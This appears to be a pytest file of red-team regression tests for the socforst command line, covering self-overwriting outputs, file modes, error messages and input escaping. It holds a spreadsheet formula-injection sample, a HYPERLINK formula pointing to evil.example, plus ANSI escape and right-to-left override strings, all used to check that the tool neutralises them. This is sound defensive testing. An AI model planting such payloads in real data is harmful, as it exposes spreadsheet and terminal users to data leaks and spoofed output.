"""Red-team category 14: CLI arguments, exit codes, one-line messages (F1, F25, F26, F37, F38).

Each case is written from the report's reproduction and driven as a user types
it: through :func:`socforst.cli.main` with captured output, or through the
installed ``socforst`` script where the shell's part matters (a closed standard
output). Folders and files are real; a refused write is checked by comparing
every byte of the source before and after.
"""

from __future__ import annotations

import datetime as dt
import io
import os
import shutil
import stat
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import attrs
import pytest

import socforst
import socforst.registry
from socforst import Dataset, Request, Team, TeamMember
from socforst.cli import main, render
from socforst.demo import demo_dataset
from socforst.registry import InvalidSpecError, UnknownAdapterError, adapter_options, location_of

d = dt.date

TEAMS = "team_id,name,founded_on\nt1,Team one,2016-01-04\n"
MEMBERS = "member_id,team_id,employed_from\nm1,t1,2016-01-04\n"
ASSIGNMENTS = "assignment_id,member_id,district,start,end\na1,m1,farsta,2025-01-01,2025-02-01\n"


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    status = main(list(argv))
    captured = capsys.readouterr()
    return status, captured.out, captured.err


def script() -> str:
    found = shutil.which("socforst", path=str(Path(sys.executable).parent))
    assert found is not None, "the socforst script is not installed beside the interpreter"
    return found


def environment() -> dict[str, str]:
    env = dict(os.environ)
    env.pop("SOCFORST_SOURCE", None)
    env.pop("SOCFORST_DEBUG", None)
    return env


def snapshot(root: Path) -> dict[str, bytes]:
    """Every file under *root* (or *root* itself) by its relative path, with its bytes."""
    if root.is_file():
        return {root.name: root.read_bytes()}
    return {
        str(path.relative_to(root)): path.read_bytes()
        for path in sorted(root.rglob("*"))
        if path.is_file()
    }


@pytest.fixture
def extract(tmp_path: Path) -> Path:
    """A hand-made CSV extract: one team, member and assignment."""
    folder = tmp_path / "extract"
    folder.mkdir()
    (folder / "teams.csv").write_text(TEAMS, encoding="utf-8")
    (folder / "members.csv").write_text(MEMBERS, encoding="utf-8")
    (folder / "assignments.csv").write_text(ASSIGNMENTS, encoding="utf-8")
    return folder


@pytest.fixture
def city_json(tmp_path: Path, extract: Path) -> Path:
    """The same extract as one JSON document, written by socforst."""
    target = tmp_path / "city.json"
    socforst.open_exporter(f"json:{target}").write_dataset(
        socforst.open_source(f"csv:{extract}").read()
    )
    return target


# -- F1: an output that is an input is refused before anything is written ---------------------


@pytest.mark.parametrize("spelling", ["{path}", "{folder}/./{name}", "{folder}/../{parent}/{name}"])
def test_an_output_onto_the_json_source_is_refused_and_the_source_is_untouched(
    capsys: pytest.CaptureFixture[str], city_json: Path, spelling: str
) -> None:
    """F1: `deadlines --source json:city.json -o city.json` emptied the source; now exit 1."""
    before = city_json.read_bytes()
    output = spelling.format(
        path=city_json,
        folder=city_json.parent,
        parent=city_json.parent.name,
        name=city_json.name,
    )
    status, out, err = run(capsys, "deadlines", "--source", f"json:{city_json}", "-o", output)
    assert (1, "") == (status, out)
    assert 1 == len(err.splitlines())
    assert err.startswith("socforst: error: cannot write ")
    assert "also the source" in err
    assert before == city_json.read_bytes()
    assert [city_json.name] == [p.name for p in city_json.parent.iterdir() if p.is_file()]


def test_an_output_through_a_symbolic_link_to_the_source_is_refused(
    capsys: pytest.CaptureFixture[str], city_json: Path, tmp_path: Path
) -> None:
    """F1 with F2's link: the link resolves to the source file, so nothing is written."""
    link = tmp_path / "link.json"
    link.symlink_to(city_json)
    before = city_json.read_bytes()
    status, _, err = run(capsys, "availability", "--source", f"json:{city_json}", "-o", str(link))
    assert 1 == status
    assert 1 == len(err.splitlines())
    assert before == city_json.read_bytes()
    assert link.is_symlink()
    assert city_json == link.resolve()


def test_a_pseudonymize_summary_into_the_folder_it_reads_is_refused(
    capsys: pytest.CaptureFixture[str],
    extract: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """F1: the source folder of `pseudonymize` is an input too; nothing is copied or written."""
    monkeypatch.setenv("SOCFORST_PSEUDONYM_KEY", "a key for this test only, 32 bytes")
    before = snapshot(extract)
    target = tmp_path / "copy"
    argv = ("pseudonymize", str(extract), str(target), "-o", str(extract / "summary.txt"))
    status, out, err = run(capsys, *argv)
    assert (1, "") == (status, out)
    assert 1 == len(err.splitlines())
    assert before == snapshot(extract)
    assert not target.exists()


@pytest.mark.parametrize("name", ["members.csv", "new-report.csv"])
def test_an_output_into_the_source_folder_is_refused(
    capsys: pytest.CaptureFixture[str], extract: Path, name: str
) -> None:
    """F1: `-o` onto a table file of the source, or any file in its folder, exit 1."""
    before = snapshot(extract)
    argv = ("deadlines", "--source", f"csv:{extract}", "-f", "csv", "-o", str(extract / name))
    status, out, err = run(capsys, *argv)
    assert (1, "") == (status, out)
    assert 1 == len(err.splitlines())
    assert before == snapshot(extract)


@pytest.mark.parametrize(
    "target", ["csv:{source}", "csv:{source}/copy", "csv:{source}/..", "json:{source}"]
)
@pytest.mark.parametrize("force", [False, True])
def test_an_export_onto_its_own_source_is_refused_even_with_force(
    capsys: pytest.CaptureFixture[str], extract: Path, target: str, force: bool
) -> None:
    """F1: the target is, holds or lies in the source folder: refused, nothing written."""
    before = snapshot(extract.parent)
    argv = ["export", "--source", f"csv:{extract}", target.format(source=extract)]
    status, out, err = run(capsys, *argv, *(["--force"] if force else []))
    assert (1, "") == (status, out)
    assert 1 == len(err.splitlines())
    assert "is also the source" in err
    assert "nothing was written" in err
    assert before == snapshot(extract.parent)


def test_a_sqlite_export_onto_its_own_database_spelt_otherwise_is_refused(
    capsys: pytest.CaptureFixture[str],
    extract: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """F1: `sqlite:x.db`, `sqlite:./x.db` and `sqlite:///x.db` are one database."""
    monkeypatch.chdir(tmp_path)
    socforst.open_exporter("sqlite:x.db").write_dataset(
        socforst.open_source(f"csv:{extract}").read()
    )
    before = (tmp_path / "x.db").read_bytes()
    for source, target in [("sqlite:x.db", "sqlite:./x.db"), ("sqlite:///x.db", "json:x.db")]:
        status, _, err = run(capsys, "export", "--source", source, target, "--force")
        assert 1 == status
        assert 1 == len(err.splitlines())
        assert before == (tmp_path / "x.db").read_bytes()


def test_demo_into_a_real_extract_needs_force(
    capsys: pytest.CaptureFixture[str], extract: Path
) -> None:
    """F1: `socforst demo csv:my-real-extract` replaced 14 files; now refused without --force."""
    before = snapshot(extract)
    argv = ("demo", f"csv:{extract}", "--start", "2025-01-01", "--end", "2025-01-31")
    status, out, err = run(capsys, *argv)
    assert (1, "") == (status, out)
    assert 1 == len(err.splitlines())
    assert "--force" in err
    assert before == snapshot(extract)
    status, _, _ = run(capsys, *argv, "--force")
    assert 0 == status
    expected = demo_dataset(start=d(2025, 1, 1), end=d(2025, 1, 31)).counts()
    assert expected == socforst.open_source(f"csv:{extract}").read().counts()


def test_an_export_over_another_extract_needs_force_and_then_replaces_it(
    capsys: pytest.CaptureFixture[str], extract: Path, city_json: Path, tmp_path: Path
) -> None:
    """F1: the JSON file holds another extract: refused, then replaced with --force."""
    other = tmp_path / "other"
    other.mkdir()
    (other / "teams.csv").write_text(
        "team_id,name,founded_on\nt2,Team two,2017-01-02\n", encoding="utf-8"
    )
    (other / "members.csv").write_text(
        "member_id,team_id,employed_from\nm2,t2,2017-01-02\n", encoding="utf-8"
    )
    target = tmp_path / "city.json"
    before = target.read_bytes()
    status, _, err = run(capsys, "export", "--source", f"csv:{other}", f"json:{target}")
    assert 1 == status
    assert "already holds an extract" in err
    assert before == target.read_bytes()
    status, _, _ = run(capsys, "export", "--source", f"csv:{other}", f"json:{target}", "--force")
    assert 0 == status
    assert ("m2",) == tuple(
        m.member_id for m in socforst.open_source(f"json:{target}").read().members
    )


def test_an_export_into_a_new_or_unrelated_folder_needs_no_force(
    capsys: pytest.CaptureFixture[str], extract: Path, tmp_path: Path
) -> None:
    """A folder without table files (only notes.txt) holds no extract: written, notes kept."""
    folder = tmp_path / "plain"
    folder.mkdir()
    (folder / "notes.txt").write_text("keep me", encoding="utf-8")
    status, _, _ = run(capsys, "export", "--source", f"csv:{extract}", f"csv:{folder}")
    assert 0 == status
    assert "keep me" == (folder / "notes.txt").read_text(encoding="utf-8")
    assert [
        "member_id,team_id,name,employed_from,employed_to,extent,competencies",
        "m1,t1,,2016-01-04,,1.0,",
    ] == (folder / "members.csv").read_text(encoding="utf-8").splitlines()


def test_export_and_output_modes_are_owner_only_unless_mode_is_given(
    capsys: pytest.CaptureFixture[str], extract: Path, tmp_path: Path
) -> None:
    """F16 at the CLI: new 0600/0700 by default; --mode 640 gives 0640 files in a 0750 folder."""
    private, shared = tmp_path / "private", tmp_path / "shared"
    assert 0 == run(capsys, "export", "--source", f"csv:{extract}", f"csv:{private}")[0]
    assert (
        0
        == run(capsys, "export", "--source", f"csv:{extract}", f"csv:{shared}", "--mode", "640")[0]
    )
    assert 0o700 == stat.S_IMODE(private.stat().st_mode)
    assert 0o600 == stat.S_IMODE((private / "members.csv").stat().st_mode)
    assert 0o750 == stat.S_IMODE(shared.stat().st_mode)
    assert 0o640 == stat.S_IMODE((shared / "members.csv").stat().st_mode)
    output = tmp_path / "deadlines.csv"
    argv = ("deadlines", "--source", f"csv:{extract}", "-f", "csv", "-o", str(output))
    assert 0 == run(capsys, *argv)[0]
    assert 0o600 == stat.S_IMODE(output.stat().st_mode)
    output.chmod(0o644)
    assert 0 == run(capsys, *argv)[0]
    assert 0o644 == stat.S_IMODE(output.stat().st_mode)  # a replaced file keeps its own
    assert 0 == run(capsys, *argv, "--mode", "0604")[0]
    assert 0o604 == stat.S_IMODE(output.stat().st_mode)


@pytest.mark.parametrize("mode", ["999", "rw-r-----", "1000", "-1", ""])
def test_a_mode_that_is_not_octal_is_a_usage_error(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, mode: str
) -> None:
    """Exit 2 naming --mode; nothing written."""
    target = tmp_path / "demo"
    status, out, err = run(capsys, "demo", f"csv:{target}", "--mode", mode)
    assert (2, "") == (status, out)
    assert "argument --mode" in err.splitlines()[-1]
    assert not target.exists()


def test_an_exporter_that_does_not_neutralise_formulas_refuses_raw(
    capsys: pytest.CaptureFixture[str], extract: Path, tmp_path: Path
) -> None:
    """The sqlite exporter stores text as text: --raw means nothing there; one line, exit 1."""
    target = tmp_path / "x.db"
    argv = ("export", "--source", f"csv:{extract}", f"sqlite:{target}", "--raw")
    status, _, err = run(capsys, *argv)
    assert 1 == status
    assert 1 == len(err.splitlines())
    assert "does not take --raw" in err
    assert not target.exists()


@attrs.frozen
class _ListExporter:
    """A plugin's exporter that keeps what it is given and sets no file modes."""

    written: list[Dataset]

    def write_dataset(self, dataset: Dataset) -> None:
        self.written.append(dataset)

    def write_deadlines(self, deadlines: object) -> None:
        del deadlines  # not used by `export`


def test_a_plugin_exporter_that_sets_no_modes_refuses_mode(
    capsys: pytest.CaptureFixture[str], extract: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """--mode is passed only to an exporter that declares it; another says so, writes nothing."""
    written: list[Dataset] = []
    registered: dict[str, dict[str, Callable[..., object]]] = {
        socforst.registry.SOURCE_GROUP: {},
        socforst.registry.EXPORTER_GROUP: {},
    }
    monkeypatch.setattr(socforst.registry, "_registered", registered)
    socforst.registry.register_exporter("list", lambda location: _ListExporter(written))
    argv = ("export", "--source", f"csv:{extract}", "list:here")
    status, _, err = run(capsys, *argv, "--mode", "640")
    assert (1, []) == (status, written)
    assert ["socforst: error: the exporter 'list' does not take --mode: it sets no file modes"] == (
        err.splitlines()
    )
    status, _, _ = run(capsys, *argv)
    assert 0 == status
    assert [("m1",)] == [tuple(m.member_id for m in data.members) for data in written]


# -- F13 at the CLI: --format csv neutralises formulas unless --raw -----------------------------


def _formula_city(tmp_path: Path) -> str:
    folder = tmp_path / "formula"
    socforst.open_exporter(f"csv:{folder}", raw=True).write_dataset(
        Dataset(
            teams=[Team("t1", "Team one", d(2016, 1, 4))],
            members=[TeamMember(member_id="m1", team_id="t1", employed_from=d(2020, 1, 1))],
            requests=[
                Request(
                    request_id="q1",
                    district="farsta",
                    received_on=d(2025, 3, 1),
                    start=d(2025, 4, 7),
                    end=d(2025, 4, 11),
                    task='=HYPERLINK("http://evil.example/?"&A3)',
                )
            ],
        )
    )
    return f"csv:{folder}"


def test_query_csv_output_neutralises_formulas_and_raw_keeps_them(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """F13: the plan's task cell gets a leading ' in CSV; --raw writes it as it is."""
    source = _formula_city(tmp_path)
    argv = ("plan", "--source", source, "--as-of", "2025-03-20", "-f", "csv")
    status, out, _ = run(capsys, *argv)
    assert 0 == status
    assert '"\'=HYPERLINK(""http://evil.example/?""&A3)"' in out
    assert ",=HYPERLINK" not in out
    assert ',"=HYPERLINK' not in out
    status, out, _ = run(capsys, *argv, "--raw")
    assert 0 == status
    assert '"=HYPERLINK(""http://evil.example/?""&A3)"' in out


def test_raw_without_csv_format_is_a_usage_error(capsys: pytest.CaptureFixture[str]) -> None:
    """--raw only means something for CSV: exit 2 before reading."""
    status, out, err = run(capsys, "sources", "--raw")
    assert (2, "") == (status, out)
    assert "--raw applies only with --format csv" in err


# -- F25: standard output closed ---------------------------------------------------------------


def test_sources_with_standard_output_closed_is_one_line_and_exit_1(tmp_path: Path) -> None:
    """F25: `socforst sources >&-` said "unexpected AttributeError"; now one clear line."""
    done = subprocess.run(
        ["sh", "-c", f"exec '{script()}' sources >&-"],
        capture_output=False,
        stderr=subprocess.PIPE,
        text=True,
        check=False,
        cwd=tmp_path,
        env=environment(),
    )
    assert 1 == done.returncode
    assert 1 == len(done.stderr.splitlines())
    assert "standard output is closed" in done.stderr
    assert "unexpected" not in done.stderr


def test_with_standard_output_closed_an_output_file_still_works(tmp_path: Path) -> None:
    """`-o FILE` needs no standard output: exit 0 and the file holds the list."""
    done = subprocess.run(
        ["sh", "-c", f"exec '{script()}' sources -f csv -o out.csv >&- 2>&-"],
        check=False,
        cwd=tmp_path,
        env=environment(),
    )
    assert 0 == done.returncode
    assert "source,csv" in (tmp_path / "out.csv").read_text(encoding="utf-8").splitlines()


# -- F26 and F5: source specs and options ------------------------------------------------------


@pytest.mark.parametrize(
    ("argv", "expected"),
    [
        (("--source-option", "delimiter=;;"), "the option 'delimiter' must be one character"),
        (("--source-option", "delimiter="), "got an empty value"),
        (("--source-option", "encoding=latin9x"), "names no text encoding Python knows"),
        (("--source-option", "encoding=base64"), "names no text encoding Python knows"),
        (
            ("--source-option", "colour=red"),
            "takes no option 'colour'; its options: ",
        ),
    ],
)
def test_a_source_option_the_source_cannot_use_is_one_line(
    capsys: pytest.CaptureFixture[str], extract: Path, argv: tuple[str, ...], expected: str
) -> None:
    """F26: "unexpected ValueError/LookupError" before; now the option named, exit 1."""
    status, out, err = run(capsys, "deadlines", "--source", f"csv:{extract}", *argv)
    assert (1, "") == (status, out)
    assert 1 == len(err.splitlines())
    assert expected in err
    assert "unexpected" not in err


def test_an_unknown_encoding_is_noticed_even_in_a_folder_without_table_files(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """F26: with no file to decode, latin9x loaded an empty dataset with exit 0."""
    status, out, err = run(
        capsys, "deadlines", "--source", f"csv:{tmp_path}", "--source-option", "encoding=latin9x"
    )
    assert (1, "") == (status, out)
    assert "'encoding'" in err


@pytest.mark.parametrize(
    ("spec", "expected"),
    [
        ("http://example.org/x", "unknown source scheme 'http'; known: "),
        ("foo://x", "unknown source scheme 'foo'; known: "),
        ("://", "has no scheme before '://'"),
        ("sql:team.db", "takes a database URL"),
        ("csv", "names no location"),
        ("csv:", "names no location"),
        ("json:", "names no location"),
        ("csv://extract", "write csv:LOCATION"),
        (":extract", "has no name before ':'"),
        ("postgresql+nodriver://host/db", "unknown database driver 'nodriver'"),
        ("nosuch:x", "no source named 'nosuch'; known: "),
    ],
)
def test_a_source_spec_no_source_can_use_is_one_line_naming_what_works(
    capsys: pytest.CaptureFixture[str], spec: str, expected: str
) -> None:
    """F26, F5: each is one line, exit 1; `--source csv` no longer reads the current folder."""
    status, out, err = run(capsys, "deadlines", "--source", spec)
    assert (1, "") == (status, out)
    assert 1 == len(err.splitlines())
    assert err.startswith("socforst: error: ")
    assert expected in err
    assert "unexpected" not in err


@pytest.mark.parametrize("spec", ["http://example.org/x", "://", "sql:team.db", "csv", "csv:", " "])
def test_open_source_and_open_exporter_raise_socforst_errors_for_bad_specs(spec: str) -> None:
    """F26 in the API: an UnknownAdapterError or an InvalidSpecError, both SocforstErrors."""
    for opener in (socforst.open_source, socforst.open_exporter):
        with pytest.raises((UnknownAdapterError, InvalidSpecError)) as info:
            opener(spec)
        assert isinstance(info.value, socforst.SocforstError)


def test_an_option_list_is_the_factorys_named_parameters(tmp_path: Path) -> None:
    """The csv source takes delimiter and encoding; its exporter also raw and mode.

    The command line's --raw and --mode ask adapter_options whether an exporter takes them.
    """
    assert {"delimiter", "encoding"} <= adapter_options(f"csv:{tmp_path}")
    assert "raw" not in adapter_options(f"csv:{tmp_path}")
    assert {"delimiter", "encoding", "raw", "mode"} <= adapter_options(
        f"csv:{tmp_path}", exporter=True
    )
    assert "raw" not in adapter_options(f"sqlite:{tmp_path}/x.db", exporter=True)


def test_the_location_of_an_adapter_is_its_file_or_folder(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """location_of: a file adapter's path, a SQLite file however written, else nothing.

    Nothing (None) for the demo city and a database on a server.
    """
    monkeypatch.chdir(tmp_path)
    assert Path("extract") == location_of(socforst.open_source("csv:extract"))
    assert Path("city.json") == location_of(socforst.open_exporter("json:city.json"))
    assert Path("x.db") == location_of(socforst.open_source("sqlite:x.db"))
    assert Path("x.db") == location_of(socforst.open_source("sqlite:///x.db"))
    assert location_of(socforst.open_source("demo")) is None
    assert location_of(socforst.open_source("postgresql+psycopg://user@host/db")) is None


def test_the_demo_source_needs_no_location() -> None:
    """`demo` and `demo:` are the demo city: a source that takes no location may omit it."""
    assert 2016 == socforst.open_source("demo").seed  # type: ignore[attr-defined]
    assert 2016 == socforst.open_source("demo:").seed  # type: ignore[attr-defined]


# -- F38: options that do nothing are refused -----------------------------------------------------


@pytest.mark.parametrize(
    ("argv", "expected"),
    [
        (
            ("deadlines", "--by", "member", "--crosswalk"),
            "--crosswalk applies only with --by district",
        ),
        (("deadlines", "--crosswalk"), "--crosswalk applies only with --by district"),
        (("utilisation", "--crosswalk"), "--crosswalk applies only with --districts"),
        (("availability", "--min-extent", "0.5"), "--min-extent applies only with --stretches"),
        (
            (
                "need",
                "--weight",
                "backlog_per_position=0",
                "--weight",
                "vacancy_rate=0",
                "--weight",
                "turnover=0",
                "--weight",
                "consultants_per_position=0",
            ),
            "every weight is 0",
        ),
        (("need", "--weight", "turnover=-1"), "must be a number, 0 or more"),
        (("need", "--weight", "turnover=nan"), "must be a number, 0 or more"),
        (("need", "--weight", "colour=1"), "unknown factor"),
    ],
)
def test_options_that_would_be_ignored_or_rank_arbitrarily_are_usage_errors(
    capsys: pytest.CaptureFixture[str], extract: Path, argv: tuple[str, ...], expected: str
) -> None:
    """F38: `deadlines --by member --crosswalk` ignored --crosswalk; all-zero weights ranked."""
    status, out, err = run(capsys, *argv, "--source", f"csv:{extract}")
    assert (2, "") == (status, out)
    assert expected in err.splitlines()[-1]


# -- F37: control characters never reach the terminal ---------------------------------------------


def test_a_plan_table_shows_control_characters_of_the_data_as_escapes(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """F37: a C1 CSI (8-bit ESC [) and a right-to-left override in `task` are escaped."""
    folder = tmp_path / "ansi"
    socforst.open_exporter(f"csv:{folder}").write_dataset(
        Dataset(
            requests=[
                Request(
                    request_id="q1",
                    district="farsta",
                    received_on=d(2025, 3, 1),
                    start=d(2025, 4, 7),
                    end=d(2025, 4, 11),
                    task="\x9b31mred\u202eevil",
                )
            ]
        )
    )
    status, out, _ = run(capsys, "plan", "--source", f"csv:{folder}", "--as-of", "2025-03-20")
    assert 0 == status
    assert "\\x9b31mred\\u202eevil" in out
    assert "\x9b" not in out
    assert "\u202e" not in out


def test_render_escapes_ansi_sequences_in_a_table_and_keeps_them_in_json() -> None:
    """F37: ESC and DEL are escaped in a table; JSON escapes control characters itself."""

    @attrs.frozen
    class Row:
        task: str

    table, text = io.StringIO(), io.StringIO()
    render([Row("\x1b[2J\x1b[31mred\x7f")], Row, table)
    render([Row("\x1b[2J")], Row, text, format="json")
    assert "\\x1b[2J\\x1b[31mred\\x7f" == table.getvalue().splitlines()[2]
    assert "\x1b" not in table.getvalue()
    assert '"\\u001b[2J"' in text.getvalue()
